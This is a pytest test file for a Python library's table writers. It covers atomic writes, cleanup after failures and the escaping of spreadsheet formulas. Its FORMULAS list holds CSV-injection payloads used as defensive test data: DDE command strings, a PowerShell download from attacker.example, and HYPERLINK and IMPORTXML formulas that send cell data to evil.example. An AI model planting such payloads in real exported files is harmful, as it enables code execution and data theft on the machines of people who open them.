"""Sinks: never half a file under its name, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import os
import re
import signal
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from zipfile import ZipFile

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from structkit.errors import JobError
from structkit.tables.columns import input_columns, output_columns, run_columns
from structkit.tables.formats.formulas import escape_formula, is_formula
from structkit.tables.sinks import open_sink
from structkit.tables.sources import open_source

FORMATS = ["csv", "csv.gz", "tsv", "jsonl", "jsonl.xz", "db", "parquet", "arrow", "xlsx"]
COLUMNS = input_columns(["id"], {"type": "string"})


@pytest.mark.parametrize("suffix", FORMATS)
def test_a_file_appears_when_it_is_complete(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"t.{suffix}"
    with open_sink(path, COLUMNS) as sink:
        sink.write({"input": {"id": "1"}})
        assert not path.exists()
    assert [file.name for file in tmp_path.iterdir()] == [path.name]
    assert [record.values for record in open_source(path)] == [{"id": "1"}]


@pytest.mark.parametrize("suffix", FORMATS)
def test_an_exception_leaves_no_file(tmp_path: Path, suffix: str) -> None:
    with pytest.raises(ZeroDivisionError), open_sink(tmp_path / f"t.{suffix}", COLUMNS) as sink:
        sink.write({"input": {"id": str(1)}, "output": 1 / 0})
    assert list(tmp_path.iterdir()) == []


def test_an_existing_file_is_replaced_only_with_overwrite(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_text("mine")
    with pytest.raises(JobError, match="exists"):
        open_sink(path, COLUMNS)
    with open_sink(path, COLUMNS, overwrite=True):
        assert path.read_text() == "mine"
    assert path.read_bytes() == b"id\r\n"
    path.unlink()
    with pytest.raises(JobError, match="exists"), open_sink(path, COLUMNS):
        path.write_text("another program's")
    assert path.read_text() == "another program's"
    assert len(list(tmp_path.iterdir())) == 1


def test_an_output_that_cannot_be_written_raises(tmp_path: Path) -> None:
    (tmp_path / "folder.csv").mkdir()
    for name in ("folder.csv", "none/t.csv"):
        with pytest.raises(JobError, match="cannot write"):
            open_sink(tmp_path / name, COLUMNS)
    with pytest.raises(JobError, match=r"only \.xlsx"):
        open_sink(tmp_path / "t.ods", COLUMNS)
    with pytest.raises(JobError, match="sqlite cannot be written to standard output"):
        open_sink("-", COLUMNS, format="sqlite")


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs a disk that is always full")
@pytest.mark.parametrize("suffix", ["csv", "jsonl", "parquet"])
def test_a_full_disk_raises_and_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str) -> None:
    sink = open_sink(tmp_path / f"t.{suffix}", COLUMNS)
    with Path("/dev/full").open("wb", buffering=0) as full:
        os.dup2(full.fileno(), sink._draft.file.fileno())
    sink.write({"input": {"id": "1"}})
    with pytest.raises(JobError, match="No space left"):
        sink.close()
    assert list(tmp_path.iterdir()) == []


WRITER = """
import sys
from structkit.tables.columns import input_columns
from structkit.tables.sinks import open_sink
sink = open_sink(sys.argv[1], input_columns(["id"], {"type": "string"}), overwrite=True)
for number in range(10**7):
    sink.write({"input": {"id": str(number) * 20}})
    if number == 30_000:
        print("writing", flush=True)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="kills")
@pytest.mark.parametrize("suffix", ["csv", "jsonl.gz", "parquet", "db"])
def test_a_killed_writer_leaves_the_old_file_and_its_temporary_file_is_removed(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"t.{suffix}"
    path.write_bytes(b"old")
    with subprocess.Popen([sys.executable, "-c", WRITER, str(path)], stdout=subprocess.PIPE) as child:
        try:
            assert child.stdout.readline() == b"writing\n"
            second = open_sink(path, COLUMNS, overwrite=True)
            assert len(list(tmp_path.glob(".*.part"))) == 2, "the file of a running writer is not removed"
            second.discard()
        finally:
            child.send_signal(signal.SIGKILL)
    assert path.read_bytes() == b"old"
    assert len(list(tmp_path.glob(".*.part"))) == 1
    with open_sink(path, COLUMNS, overwrite=True) as sink:
        sink.write({"input": {"id": "1"}})
    assert [file.name for file in tmp_path.iterdir()] == [path.name]
    assert [record.values for record in open_source(path)] == [{"id": "1"}]


FORMULAS = [
    "=1+1",
    "=",
    "+SUM(A1)",
    "+A1",
    "-2+3+cmd|' /C calc'!A0",
    "-1'file:///etc/passwd'#$a.A1",
    "-1 SUM(1)",
    "+1(2)A(3)",
    "- milk",
    "@SUM(1)",
    "@a SUM(1)",
    "@SUM (1)",
    "@A1!B",
    "@cmd|' /C calc'!A0",
    "@user thanks",
    "\tx",
    "\rx",
    " =1",
    '"=1',
    "\"'=1",
    "\n=1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "-5\n=1",
    '=HYPERLINK("http://evil.example?x="&A1,"Error")',
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-5*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "='file:///etc/passwd'#$passwd.A1",
    '+WEBSERVICE("http://evil.example")',
]
HARMLESS = [
    *("-5", "+5", "-5.25e-3", "-1,234.50", "-1.234,50 EUR", "-$5.00", "-5 %", "-5 \u00b0C", "+ 5", "-05:00"),
    *("+49 30 1234567", "+49 (0)30 / 123-45", "+1 (555) 010-0000 ext. 12", "+1-800-555-0100", "+49\u00a030\u2011123"),
    *("@handle", "@\u0438\u043c\u044f", "@example.com", "@scope/package"),
    *("-", "--", "+", "@", "- - -"),
    *("a=1", "a@b.c", "'tis", "'=1", "''=1"),
]


def write_and_read_cells(path: Path, text: str, guard_formulas: Any) -> list[Any]:
    """Write a text into columns of the input, the output and the run, and return the names and the cells."""
    columns = (*input_columns([text]), *output_columns({"properties": {"o": {}}}), *run_columns("message"))
    with open_sink(path, columns, guard_formulas=guard_formulas, overwrite=True) as sink:
        sink.write({"input": {text: text}, "output": {"o": text}, "run": {"message": text}})
    source = open_source(path, delimiter={".csv": ",", ".tsv": "\t"}.get(path.suffix))
    return [*source.columns, *next(iter(source)).values.values()]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_formulas_are_escaped_in_the_columns_of_the_setting(tmp_path: Path, suffix: str, text: str) -> None:
    path, escaped = tmp_path / f"t.{suffix}", f"'{text}"
    assert write_and_read_cells(path, text, "all") == [escaped, "o", "message", escaped, escaped, escaped]
    assert write_and_read_cells(path, text, "output") == [text, "o", "message", text, escaped, escaped]
    assert write_and_read_cells(path, text, "none") == [text, "o", "message", text, text, text]


@pytest.mark.parametrize("text", HARMLESS)
@pytest.mark.parametrize("suffix", ["csv", "tsv"])
def test_numbers_phone_numbers_names_dashes_and_escaped_texts_are_unchanged(
    tmp_path: Path, suffix: str, text: str
) -> None:
    assert write_and_read_cells(tmp_path / f"t.{suffix}", text, "all")[3:] == [text, text, text]


@pytest.mark.parametrize("guard_formulas", ["all", "none"])
def test_excel_has_texts_unchanged_in_cells_that_stay_texts(tmp_path: Path, guard_formulas: str) -> None:
    path, texts = tmp_path / "t.xlsx", [*FORMULAS, *HARMLESS]
    with open_sink(path, input_columns(["t"]), guard_formulas=guard_formulas) as sink:
        for text in texts:
            sink.write({"input": {"t": text}})
    assert [record.values["t"] for record in open_source(path)] == texts
    with ZipFile(path) as book:
        sheet, styles = book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/styles.xml").decode()
    assert "<f>" not in sheet
    assert sheet.count(' s="1" t="') == len(FORMULAS)
    assert 'quotePrefix="1"' in styles, "Excel keeps these cells as text when they are edited"


@pytest.mark.parametrize("suffix", ["jsonl", "parquet", "arrow", "db"])
def test_formulas_are_unchanged_in_other_formats(tmp_path: Path, suffix: str) -> None:
    with open_sink(tmp_path / f"t.{suffix}", COLUMNS) as sink:
        sink.write({"input": {"id": "=1+1"}})
    assert [record.values for record in open_source(tmp_path / f"t.{suffix}")] == [{"id": "=1+1"}]


@given(st.text(st.sampled_from("=+-@\t\r\n '\"1.ea\x00\uff1d")))
def test_an_escaped_text_is_not_escaped_again(text: str) -> None:
    escaped = escape_formula(text)
    assert not is_formula(escaped)
    assert escape_formula(escaped) == escaped
    assert escaped.removeprefix("'") == text.removeprefix("'")


@given(st.text(st.sampled_from("=+-@\t\n '\"1.ea(|![{#\\\uff1d"), max_size=12))
def test_no_text_that_is_left_unchanged_can_call_or_refer_to_anything(text: str) -> None:
    assume(not text.startswith('"'))  # a cell that starts with a quote is a text
    start = text.strip("\"'` \t\n")
    if not text.startswith("'") and not is_formula(text) and start[:1] in {*"=+-@\uff1d"} and start:
        assert not re.search(r"^[=\uff1d]|[|!\[{#\\=]|[^\W\d] *\(", start)


def test_numbers_are_numbers(tmp_path: Path) -> None:
    cells = {"a": -5, "b": -2.5, "c": True, "d": None, "e": 2**60, "f": "-5"}
    for suffix in ("csv", "xlsx"):
        with open_sink(tmp_path / f"t.{suffix}", input_columns(cells)) as sink:
            sink.write({"input": cells})
    [text], [sheet] = (list(open_source(tmp_path / f"t.{suffix}")) for suffix in ("csv", "xlsx"))
    assert list(text.values.values()) == ["-5", "-2.5", "true", "", str(2**60), "-5"]
    assert list(sheet.values.values()) == [-5, -2.5, True, "", str(2**60), "-5"]


def test_a_cell_that_excel_would_truncate_is_rejected(tmp_path: Path) -> None:
    with pytest.raises(JobError, match="at most 32,767 characters"), open_sink(tmp_path / "t.xlsx", COLUMNS) as sink:
        sink.write({"input": {"id": "😀" * 20_000}})
    assert list(tmp_path.iterdir()) == []


def test_a_value_that_json_cannot_represent_is_null_or_escaped(tmp_path: Path) -> None:
    with open_sink(tmp_path / "t.jsonl", input_columns(["a", "b"])) as sink:
        sink.write({"input": {"a": float("nan"), "b": "\ud800"}})
    assert (tmp_path / "t.jsonl").read_bytes() == b'{"a":null,"b":"\\ud800"}\n'


def test_a_row_without_a_value_has_nulls_and_a_missing_field_is_omitted(tmp_path: Path) -> None:
    columns = (*COLUMNS, *output_columns({"properties": {"a": {}, "b": {}}}), *run_columns("status"))
    with open_sink(tmp_path / "t.jsonl", columns) as sink:
        sink.write({"input": {"id": "1"}, "output": {"a": 1}, "run": {"status": "done"}})
        sink.write({"input": {"id": "2"}, "run": {"status": "failed"}})
    assert (tmp_path / "t.jsonl").read_text().splitlines() == [
        '{"id":"1","a":1,"status":"done"}',
        '{"id":"2","a":null,"b":null,"status":"failed"}',
    ]


def test_duplicate_names_get_a_suffix(tmp_path: Path) -> None:
    output = output_columns({"properties": {"Status": {}, "id": {}, "status": {}}})
    columns = (*run_columns("status"), *output, *input_columns(["id", "status", "id_output"]))
    with open_sink(tmp_path / "t.csv", columns) as sink:
        assert sink.names == (
            *("id", "status", "id_output"),
            *("status_run", "Status_output", "id_output_output", "status_output_output"),
        )
    with pytest.raises(JobError, match="a run has no column 'state'"):
        run_columns("state")


def test_a_type_with_too_many_columns_is_not_a_flat_table(tmp_path: Path) -> None:
    fields = {name: {"$ref": f"#/$defs/{depth}"} for depth, name in enumerate("abcdefghij")}
    levels = {
        str(depth): {"type": "object", "properties": {n: {"$ref": f"#/$defs/{depth + 1}"} for n in "abcd"}}
        for depth in range(10)
    }
    schema = {"type": "object", "properties": fields, "$defs": {**levels, "10": {"type": "string"}}}
    with pytest.raises(JobError, match="more than 10000 columns"):
        open_sink(tmp_path / "t.csv", output_columns(schema))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("format", ["csv", "jsonl", "parquet", "arrow"])
def test_standard_output_stays_open(monkeypatch: pytest.MonkeyPatch, format: str) -> None:
    stream = io.BytesIO()
    monkeypatch.setattr("sys.stdout", SimpleNamespace(buffer=stream))
    if format == "parquet":
        with pytest.raises(JobError, match="standard output"):
            open_sink("-", COLUMNS, format=format)
        return
    with open_sink("-", COLUMNS, format=format) as sink:
        sink.write({"input": {"id": "00501"}})
    assert b"00501" in stream.getvalue()
    assert not stream.closed


def test_rows_are_written_immediately(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.BytesIO()
    monkeypatch.setattr("sys.stdout", SimpleNamespace(buffer=stream))
    with open_sink("-", COLUMNS, format="csv") as sink:
        for number in range(3):
            sink.write({"input": {"id": str(number)}})
            assert len(list(csv.reader(io.StringIO(stream.getvalue().decode())))) == number + 2


SMALL_FILES = """
import resource, signal, sys
from structkit.errors import JobError
from structkit.tables.columns import input_columns
from structkit.tables.sinks import open_sink
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
try:
    with open_sink(sys.argv[1], input_columns(["n"])) as sink:
        for number in range(100_000):
            sink.write({"input": {"n": number}})
except JobError as error:
    print(error)
"""


@pytest.mark.skipif(os.name != "posix", reason="there is no limit of a file's size here")
def test_a_full_folder_of_temporary_files_is_named_and_nothing_is_left_there(tmp_path: Path) -> None:
    pytest.importorskip("xlsxwriter")
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    command = [sys.executable, "-c", SMALL_FILES, str(tmp_path / "t.xlsx")]
    run = subprocess.run(
        command, env={**os.environ, "TMPDIR": str(temporary)}, capture_output=True, text=True, check=True
    )
    assert f"t.xlsx: File too large in {temporary}, the folder of temporary files" in run.stdout
    assert [*tmp_path.iterdir(), *temporary.iterdir()] == [temporary]
